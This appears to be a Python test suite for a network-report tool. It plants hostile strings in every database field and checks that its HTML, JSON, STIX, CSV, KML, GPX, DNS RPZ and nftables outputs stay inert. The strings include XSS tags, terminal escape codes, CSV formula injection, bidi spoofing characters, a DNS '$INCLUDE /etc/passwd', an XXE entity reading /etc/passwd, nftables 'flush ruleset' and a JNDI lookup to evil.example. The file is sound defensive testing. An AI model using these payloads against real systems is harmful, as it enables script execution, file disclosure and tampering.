"""Hostile text in every text field of every kind of row, by the case's own tables, so that a new field is tried by itself: inert
in every form, field by field.  What a terminal, a browser, a spreadsheet, an XML or JSON parser, a name server or a packet
filter would obey is not there; what looks like text is still told."""
import csv
import html.parser
import io
import json
import os
import re
import sqlite3
import subprocess
import tempfile
import xml.etree.ElementTree as xml

from case_kit import Open, kinds, small_case
from harness import Folder, equal, leash, need, run

import redact

HOSTILE = {
    "html": "</script><script>document.title='owned'</script><img src=x onerror=alert(1)><svg/onload=alert(2)>&lt;b&gt;",
    "attribute": "\" onmouseover=\"alert(1)\" x=' onfocus='alert(2)` autofocus",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x1b]52;c;eA==\x07\u009b31m\x08\x7f\x00end",
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1+1", "minus": "-1+1", "at": "@SUM(1)", "tab": "\t=1", "return": "\r=1", "feed": "\n=1", "wide": "\uff1d1+1",
    "bidi": "invoice\u202egpj.exe\u2066\u2069\u200f\u061c",
    "hidden": "pay\u200bpal\ufeff\u2060\u00ad\u200d",
    "lines": "a\r\nb\u2028c\u2029d\u0085e\n0.0.0.0 bank.example\nevil IN A 192.0.2.1\nadd rule inet x y drop",
    "zone": "a) ; ( \" \\\n$INCLUDE /etc/passwd\n@ IN NS evil.example.",
    "rules": "x }; flush ruleset; # \" \\",
    "json": "\",\"verdict\":\"met\"}]}\\u0022\\",
    "xml": "]]><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<?x?><!--",
    "pattern": "' OR [domain-name:value = 'bank.example",
    "lookup": "${jndi:ldap://evil.example/x}%n%s{{7*7}}",
    "broken": b"ok\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80\xe2\x80end",
}
# What turns or hides text, or steers a terminal; in no form as itself.
DECEPTIVE = {*range(0x20), 0x7f, *range(0x80, 0xa0), 0xad, 0x61c, *range(0x200b, 0x2010), *range(0x2028, 0x202f), *range(0x2060, 0x2065),
             *range(0x2066, 0x206a), 0xfeff} - {0x0a}


class Folders:
    """One case for each hostile text, with it in every field."""
    made = {}

    @classmethod
    def case(cls, name):
        if name not in cls.made:
            folder = Folder().__enter__()
            case = small_case(folder)
            with Open(case) as c:
                text = HOSTILE[name]
                if isinstance(text, bytes):
                    text = text.decode("utf-8", "replace")
                redact.planted(c, lambda table, field: text)
                key = c.key()[:12]
                if isinstance(HOSTILE[name], bytes):  # as a reader of another version, or another program, could have put it
                    for table, columns in kinds(c.db).items():
                        for field, kind in columns.items():
                            if kind == "TEXT" and field not in ("id", "evidence", "origin"):
                                c.db.execute(f'UPDATE {table} SET "{field}" = CAST(? AS TEXT) WHERE "{field}" = ?', [HOSTILE[name], text])
                            if field in ("destinations", "addresses", "answers", "serials"):
                                c.db.execute(f'UPDATE {table} SET "{field}" = CAST(? AS TEXT) WHERE instr("{field}", ?)', [b'["' + HOSTILE[name] + b'"]', text[:2]])
                # Rows that the forms look at more closely.
                c.put("flow", 500, src="192.168.1.7", dst="203.0.113.7", host=text, proto="tcp", service="tls", first="2026-05-01T09:30:00Z",
                      last="2026-05-01T09:31:00Z", local=0, bytes_out=10, payload_out=5, readable_out=5, opaque_out=0, missing_out=0)
                c.put("destination", host=text, addresses=["203.0.113.7"], owner=text, party="third", purpose=text, as_name=text, asn=64500)
                c.put("precaution", rule="T-1", verdict="not_met", title=text, kind="practice", applies="yes", reason=text)
                c.put("finding", rule="T-1", severity="high", statement=text, destinations=[text, "203.0.113.7", "track.example"], facts=[f"flow-{key}-500"])
                c.put("flight", 600, format=text, aircraft_serial=text, points=2, alt_ref=text, note=text, app=text)
                for i in range(2):
                    c.put("position", 700 + i, flight=f"flight-{key}-600", subject=text, longitude_deg=1 + i, latitude_deg=2, alt_ref=text, time_local=text)
                    c.put("position", 710 + i, flight=f"flight-{key}-600", subject="aircraft", longitude_deg=1 + i, latitude_deg=2, alt_ref=text, time_local=text)
                for run_key in ("label", "command", "operator", "policy"):
                    c.db.execute("INSERT INTO run (key, value) VALUES (?, ?) ON CONFLICT (key) DO UPDATE SET value = excluded.value", [run_key, text])
            cls.made[name] = folder, case
        return cls.made[name][1]

    @classmethod
    def done(cls):
        for folder, _ in cls.made.values():
            folder.__exit__()


def written(name, form, *more):
    done = leash("report", Folders.case(name), "--format", form, *more)
    equal(done.returncode, 0, (name, form, done.stderr.decode("utf-8", "replace")))
    return done.stdout


def harmless(content, name, form, allowed=""):
    """Well-formed UTF-8 without what steers or deceives."""
    for c in content.decode("utf-8"):
        assert ord(c) not in DECEPTIVE or c in allowed, (name, form, hex(ord(c)))


SPREADSHEET = {"formula", "plus", "minus", "at", "tab", "return", "feed", "wide"}  # only these care how a text begins


def every(form):
    for name in HOSTILE:
        if name not in SPREADSHEET or name == "formula":
            yield name, written(name, form)


def test_text():
    for name, content in every("text"):
        harmless(content, name, "text")


class Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.seen, self.handlers, self.data, self.script = {}, [], [], None

    def handle_starttag(self, tag, attributes):
        self.seen[tag] = self.seen.get(tag, 0) + 1
        self.handlers += [a for a, _ in attributes if a.startswith("on")]
        self.script = dict(attributes) if tag == "script" else None

    def handle_data(self, data):
        if self.script is not None and self.script.get("type") == "application/json":
            self.data.append(data)

    def handle_endtag(self, tag):
        self.script = None


def test_html():
    plain = Tags()
    with Folder() as folder:
        plain.feed(leash("report", small_case(folder), "--format", "html").stdout.decode())
    for name, content in every("html"):
        harmless(content, name, "html")
        page = Tags()
        page.feed(content.decode())
        equal(page.handlers, [], name)
        for tag in ("script", "style", "iframe", "object", "img", "link", "base", "form", "meta"):
            equal(page.seen.get(tag, 0), plain.seen.get(tag, 0), (name, tag))
        for data in page.data:
            json.loads(data)
        assert "<title>owned" not in content.decode() and b"http-equiv=\"refresh" not in content


def strings(value):
    if isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)
    elif isinstance(value, str):
        yield value


def test_json_forms():
    for form in ("json", "geojson", "cyclonedx", "stix"):
        for name, content in every(form):
            harmless(content, name, form)
            assert not re.search(rb"[<>&]", content), (name, form)
            parsed = json.loads(content)
            if form in ("json", "stix") and isinstance(HOSTILE[name], str):
                assert HOSTILE[name] in set(strings(parsed)), (name, form)  # the text itself comes back unchanged


def test_json_lines():
    for name, content in every("ecs"):
        harmless(content, name, "ecs")
        for line in content.decode().split("\n")[:-1]:
            json.loads(line)


def test_csv_of_every_table():
    for name in HOSTILE:
        case = Folders.case(name)
        with Folder() as folder:
            out = folder / "t/"
            equal(leash("report", case, "--format", "csv", "-o", out).returncode, 0)
            tables = os.listdir(out)
            with sqlite3.connect(case) as db:
                equal({t[:-4] for t in tables if not t.startswith("T")}, {k for k in kinds(db) if db.execute(f"SELECT count(*) FROM {k}").fetchone()[0]})
            for table in tables:
                with open(out + table, "rb") as content:
                    content = content.read()
                harmless(content, name, table, "\r\t")
                rows = list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))
                for row in rows[1:]:
                    equal(len(row), len(rows[0]), (name, table))
                    for cell in row:
                        assert not re.match(r"[=+@\t\r\n\uff1d\uff0b\uff0d\uff20]|-(?![\d.]+(e[-+]?\d+)?$)", cell), (name, table, cell)


def test_xml_forms():
    for form in ("kml", "gpx"):
        for name, content in every(form):
            harmless(content, name, form, "\r\t")
            assert b"<!DOCTYPE" not in content and b"<!ENTITY" not in content
            root = xml.fromstring(content)
            for element in root.iter():
                assert element.tag.split("}")[0] in ("{http://www.opengis.net/kml/2.2", "{http://www.google.com/kml/ext/2.2", "{http://www.topografix.com/GPX/1/1"), element.tag
                if element.tag.endswith("}value") and form == "kml":  # a balloon would read it as HTML
                    assert "<" not in (element.text or "") and "&" not in (element.text or ""), element.text


def test_lists():
    shapes = {"hosts": r"(0\.0\.0\.0|::) [a-z0-9_.-]+", "rpz": r"[a-z0-9_.-]+ IN CNAME \.|\$TTL 300|@ IN SOA localhost\. hostmaster\.localhost\. \( \d+ 3600 600 86400 300 \)|@ IN NS localhost\.",
              "nft": r"[0-9a-f:.]+,|table inet leash_forbidden( \{)?|delete table inet leash_forbidden|set addresses[46] \{|type ipv[46]_addr|elements = \{|\}|chain (forward|output) \{"
                     r"|type filter hook (forward|output) priority filter - 1; policy accept;|ip6? daddr @addresses[46] counter reject with icmpx admin-prohibited"}
    for form, shape in shapes.items():
        mark = ";" if form == "rpz" else "#"
        for name, content in every(form):
            harmless(content, name, form)
            for line in content.decode().split("\n"):
                line = line.strip()
                if line and not line.startswith(mark):
                    assert re.fullmatch(shape, line), (name, form, line)
            assert content.decode().count("track.example") >= 1 or form == "nft"


def test_programs_that_read_lists_take_them():
    need("named-checkzone")
    for name, content in every("rpz"):
        with tempfile.NamedTemporaryFile() as zone:
            zone.write(content)
            zone.flush()
            done = subprocess.run(["named-checkzone", "-i", "local", "rpz.example", zone.name], capture_output=True, timeout=60)
            equal(done.returncode, 0, (name, done.stdout))


def test_redacted_forms():
    """They go the same ways; with what is known replaced."""
    for name in ("html", "lines", "broken"):
        for form in redact.forms():
            done = leash("report", Folders.case(name), "--format", form, "--redact")
            assert done.returncode in (0, 1), (name, form, done.stderr.decode())
            harmless(done.stdout, name, form, "\r\t" if form == "csv" else "")


def test_the_test_tries_every_kind():
    with sqlite3.connect(Folders.case("html")) as db:
        for table, columns in kinds(db).items():
            for field, kind in columns.items():
                if kind != "TEXT" or field in ("id", "evidence", "origin", "time", "first", "last", "start", "end", "taken", "at", "matched_from", "matched_to",
                                               "not_before", "not_after"):
                    continue
                hits = db.execute(f'SELECT count(*) FROM {table} WHERE instr("{field}", ?)', ["document.title"]).fetchone()[0]
                assert hits >= 1, (table, field)


try:
    run(globals())
finally:
    Folders.done()
